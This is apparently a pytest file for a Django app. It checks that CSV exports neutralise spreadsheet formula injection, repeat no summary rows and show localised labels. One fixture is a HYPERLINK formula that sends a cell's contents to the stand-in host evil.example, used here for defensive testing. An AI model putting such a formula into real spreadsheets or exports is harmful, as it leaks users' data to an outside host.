"""CSV exports: cells a spreadsheet would run as formulas are neutralised; figures once."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from core.csv_export import safe_cell
from matchmaking.models import Match
from tests import factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_starting_with_a_formula_character_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Welding", "", "a=b", 12, -3, 0.5, None])
def test_other_cells_are_written_as_they_are(value):
    assert safe_cell(value) == ("" if value is None else value)


def _funnel_csv(client, coordinator, **titles):
    company = factories.MembershipFactory.create(
        organisation=factories.OrganisationFactory.create(name=titles.get("company", "Acme Oy"))
    )
    provider = factories.ProviderFactory.create(name=titles.get("provider", "Lab"))
    need = factories.NeedFactory.create(
        organisation=company.organisation, title=titles.get("need", "Need")
    )
    service = factories.ServiceFactory.create(
        provider=provider, title=titles.get("service", "Service")
    )
    Match.objects.create(
        need=need,
        service=service,
        origin="coordinator",
        stage="agreement",
        outcome_type="joint_rd_project",
    )
    client.force_login(coordinator)
    response = client.get(reverse("brokering_board") + "?format=csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_funnel_csv_neutralises_formulas_in_need_service_and_organisation_names(
    client, coordinator
):
    rows = _funnel_csv(
        client, coordinator, need=FORMULA, service=FORMULA, company=FORMULA, provider=FORMULA
    )
    header = rows.index(
        ["Match", "Need", "Service", "Provider", "Company", "Stage", "Outcome", "Origin", "Updated"]
    )
    (match_row,) = rows[header + 1 :]
    assert match_row[1:5] == ["'" + FORMULA] * 4
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_funnel_csv_writes_the_outcome_and_eu_indicator_rows_once(client, coordinator):
    rows = _funnel_csv(client, coordinator)
    firsts = [row[0] for row in rows if row]
    assert firsts.count("Outcome: Joint R&D project") == 1
    assert firsts.count("Enterprises cooperating with research institutions") == 1
    assert ["Enterprises cooperating with research institutions", "1", ""] in rows


def test_funnel_csv_shows_labels_in_the_readers_language_never_codes(client, coordinator):
    coordinator.language = "fi"
    coordinator.save(update_fields=["language"])
    rows = _funnel_csv(client, coordinator)
    cells = {cell for row in rows for cell in row}
    assert {"Vaihe", "Sopimus", "Koordinaattorin lisäämä"} <= cells
    assert not cells & {"agreement", "joint_rd_project", "coordinator", "in_discussion"}


def test_every_csv_export_goes_through_the_safe_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ("accounts", "companies", "matchmaking", "notifications", "search", "services")
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if path.name != "csv_export.py"
        and ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())
    ]
    assert offenders == []
